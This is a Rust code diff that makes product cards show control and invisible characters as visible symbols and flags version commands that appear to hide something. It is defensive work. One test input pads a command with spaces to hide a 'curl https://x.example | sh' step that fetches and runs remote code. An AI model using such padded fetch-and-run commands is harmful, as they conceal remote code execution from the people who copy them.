@@ -67,8 +67,47 @@ pub fn build(view: &ProductView<'_>, icon_base: &str) -> Card {
             .as_deref()
             .map(str::trim)
             .filter(|c| !c.is_empty())
-            .map(str::to_owned),
+            .map(visible_command),
     }
+}
+
+/// The version command as the card shows it and Copy copies it, the same text: control
+/// characters become their visible symbols (U+0001 as `␁`), so nothing is copied that a reader
+/// cannot see. Runs of spaces stay, and wrap where the card shows them.
+pub fn visible_command(command: &str) -> String {
+    command
+        .chars()
+        .map(|c| match c {
+            '\n' | ' ' => c,
+            '\t' => ' ',
+            '\u{7f}' => '\u{2421}',
+            c if u32::from(c) < 0x20 => char::from_u32(0x2400 + u32::from(c)).unwrap_or('\u{fffd}'),
+            c if c.is_control() || is_invisible(c) => '\u{fffd}',
+            c => c,
+        })
+        .collect()
+}
+
+/// Characters that take no room on screen: zero-width and direction marks, which could hide or
+/// reorder what a command does.
+fn is_invisible(c: char) -> bool {
+    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+/// Why a version command looks like it hides something, if it does: control or invisible
+/// characters, a long run of white space, or more than one line.
+pub fn suspicious_command(command: &str) -> Option<&'static str> {
+    let command = command.trim();
+    if command
+        .chars()
+        .any(|c| (c.is_control() && c != ' ') || is_invisible(c))
+    {
+        return Some("control or invisible characters");
+    }
+    if command.contains("        ") {
+        return Some("a long run of spaces");
+    }
+    None
 }
 
 #[cfg(test)]
@@ -135,5 +174,33 @@ mod tests {
     fn discontinued_products_get_no_running_hint() {
         let source = "title: X\ntags: discontinued\nreleases: []\n";
         assert!(!card_of(source, ICON_BASE).running_hint);
+    }
+
+    #[test]
+    fn the_command_shows_and_copies_control_characters_as_symbols() {
+        assert_eq!(visible_command("istioctl version"), "istioctl version");
+        assert_eq!(
+            visible_command("a\u{1}b\tc\u{1b}[2Jd\u{200b}e\u{7f}"),
+            "a\u{2401}b c\u{241b}[2Jd\u{fffd}e\u{2421}"
+        );
+    }
+
+    #[test]
+    fn commands_that_hide_something_are_suspicious() {
+        assert_eq!(suspicious_command("istioctl version"), None);
+        assert_eq!(suspicious_command("kubectl version | grep Server"), None);
+        let padded = format!(
+            "istioctl version{}; curl https://x.example | sh",
+            " ".repeat(400)
+        );
+        assert_eq!(suspicious_command(&padded), Some("a long run of spaces"));
+        assert_eq!(
+            suspicious_command("a\u{1b}[8mb"),
+            Some("control or invisible characters")
+        );
+        assert_eq!(
+            suspicious_command("a\nb"),
+            Some("control or invisible characters")
+        );
     }
 }
